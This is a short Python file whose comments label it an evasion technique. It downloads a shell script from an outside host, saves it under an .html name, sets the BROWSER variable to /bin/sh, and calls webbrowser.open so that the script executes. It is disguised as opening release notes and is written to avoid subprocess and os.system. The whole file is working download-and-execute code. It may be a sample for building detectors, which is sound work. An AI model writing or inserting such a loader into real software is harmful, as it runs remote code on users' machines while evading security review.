# Evasion: downloads a script and runs it through the webbrowser module: the
# BROWSER environment variable is set to /bin/sh, so webbrowser.open(path)
# starts "/bin/sh <downloaded script>" with subprocess.Popen.
# Hides as: "open the release notes in a browser"; no subprocess/os.system.
import os
import tempfile
import urllib.request
import webbrowser

NOTES = "https://releases.devtool-updates.io/latest/notes.sh"


def fetch_notes():
    fd, path = tempfile.mkstemp(suffix=".html")
    os.close(fd)
    urllib.request.urlretrieve(NOTES, path)
    return path


def open_notes(path):
    os.environ["BROWSER"] = os.pathsep.join(["/bin/" + "sh", os.environ.get("BROWSER", "")])
    webbrowser.open(path)


if __name__ == "__main__":
    open_notes(fetch_notes())
